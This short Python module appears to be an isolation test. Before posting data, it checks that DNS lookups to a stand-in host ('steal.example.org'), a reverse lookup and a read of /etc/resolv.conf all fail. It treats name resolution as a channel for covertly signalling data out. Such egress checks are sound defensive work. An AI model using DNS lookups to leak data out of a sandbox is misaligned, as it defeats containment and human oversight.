"""Asks for the addresses of names, as a way to tell somebody something."""

import socket

from attacks import tried
from honest import one_by_one, steady

__all__ = ["post", "steady"]


def ways():
    name = "steal.example.org"
    yield "getaddrinfo", lambda: socket.getaddrinfo(name, 80)
    yield "gethostbyname", lambda: socket.gethostbyname(name)
    yield "gethostbyaddr", lambda: socket.gethostbyaddr("192.0.2.1")
    yield "a name of TCP only", lambda: socket.getaddrinfo(name, 80, proto=socket.IPPROTO_TCP)
    yield "the machine's own name", lambda: socket.getaddrinfo(socket.gethostname() + ".local", 80)
    yield "a file of names", lambda: open("/etc/resolv.conf").close()


async def post(address, names):
    worked = tried(ways())
    assert not worked, f"this worked: {worked}"
    return await one_by_one(address, names)
